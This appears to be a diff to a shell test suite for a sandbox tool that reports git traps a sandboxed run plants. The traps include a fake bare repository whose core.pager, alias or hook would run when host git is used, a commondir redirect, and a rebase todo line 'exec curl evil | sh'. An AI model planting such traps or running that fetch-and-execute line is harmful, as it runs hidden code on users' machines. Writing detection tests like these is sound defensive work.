@@ -55,6 +55,22 @@ check "a new .git pointer file is reported" reported "new git repository at fake
 run -- true
 check "repositories that existed at the start are not reported again" bash -c "! grep -q 'new git repository' $T_ROOT/err"
 
+# A directory shaped like a git dir is a bare repository to git run inside it
+# (safe.bareRepository defaults to "all"): `git log` there runs its core.pager.
+run -- sh -c 'mkdir -p docs/objects docs/refs && echo "ref: refs/heads/main" >docs/HEAD &&
+  printf "[core]\n\tpager = ./page.sh\n" >docs/config'
+check "a directory the run made look like a git dir is reported" \
+  reported "new git repository (bare: HEAD, objects, refs; git run inside it uses it) at docs/ (host git will run: core.pager)"
+check "... which host git does take for a repository" bash -c '[[ $(git -C docs rev-parse --is-bare-repository) == true ]]'
+run -- true
+check "a bare repository present at the start is not reported again" bash -c "! grep -q 'docs' $T_ROOT/err"
+check "its config is read-only in the next run" bash -c "! \"\$PADDOCK\" run -- sh -c 'echo \"[alias] x = !id\" >>docs/config' 2>/dev/null"
+check "... and so are its hooks" bash -c "! \"\$PADDOCK\" run -- sh -c 'echo id >docs/hooks/post-update' 2>/dev/null"
+check "... whose placeholder is gone after the run" test ! -e docs/hooks
+run -- sh -c 'echo ../elsewhere >docs/commondir'
+check "a commondir that appears in it is reported" reported "the bare git repository docs/ gained a commondir"
+rm -rf docs
+
 run -- sh -c 'mkdir -p .git/rebase-merge && printf "pick 1 x\nexec curl evil | sh\n" > .git/rebase-merge/git-rebase-todo'
 check "an unfinished rebase that will run a command is reported" reported 'will run "exec curl evil | sh"'
 rm -rf .git/rebase-merge
